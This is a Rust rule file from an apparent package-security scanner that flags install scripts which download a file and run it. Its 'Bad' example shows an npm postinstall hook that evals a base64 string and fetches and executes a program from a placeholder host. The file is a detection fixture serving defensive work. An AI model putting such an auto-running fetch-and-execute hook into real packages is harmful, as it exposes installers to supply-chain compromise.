//! # A downloaded program is started
//!
//! A file that came from the network is made executable or started, in code that runs by itself.
//!
//! ## Why it matters
//!
//! What runs is not in the package. Whether that is harmless depends on who answers, and on a checksum.
//!
//! ## Known benign uses
//!
//! Installers of native programs do it: browsers, compilers, database engines. So this finding alone is no
//! verdict; beside concealment or another threat it is.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node install.js"}}
//! == install.js
//! const fs = require("fs"), path = require("path"), https = require("https");
//! const program = path.join(__dirname, "run");
//! const host = Buffer.from("Y29uc29sZS5sb2coMSk=", "base64").toString();
//! eval(host);
//! https.get("https://drop.invalid/run", (reply) => {
//!   reply.pipe(fs.createWriteStream(program)).on("close", () => require("child_process").execFile(program)); //~ here
//! });
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node install.js"}}
//! == install.js
//! const fs = require("fs"), path = require("path"), https = require("https");
//! https.get("https://releases.example/table.json", (reply) => {
//!   reply.pipe(fs.createWriteStream(path.join(__dirname, "table.json")));
//! });
//! ```
//!
//! ## References
//!
//! - MITRE ATT&CK T1105, Ingress Tool Transfer

use crate::prelude::*;

/// A downloaded program is started.
pub struct DownloadedProgramRun;

impl Rule for DownloadedProgramRun {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "downloaded-program-run",
            title: "A downloaded program is started",
            tier: Tier::Source,
            role: Role::Capability,
            severity: Level::Medium,
            specificity: Level::Medium,
            technique: "T1105",
            covers: &["lifecycle-install", "native-node-binary"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        for fetched in facts.fetched().iter().filter(|fetched| fetched.trigger.runs_unasked()) {
            let does = match fetched.usage {
                FetchedUse::MadeExecutable => "makes it executable",
                _ => "runs it",
            };
            found.path(
                fetched.trigger,
                &[(fetched.fetched.clone(), "writes a downloaded file"), (fetched.used.clone(), does)],
            );
        }
    }
}
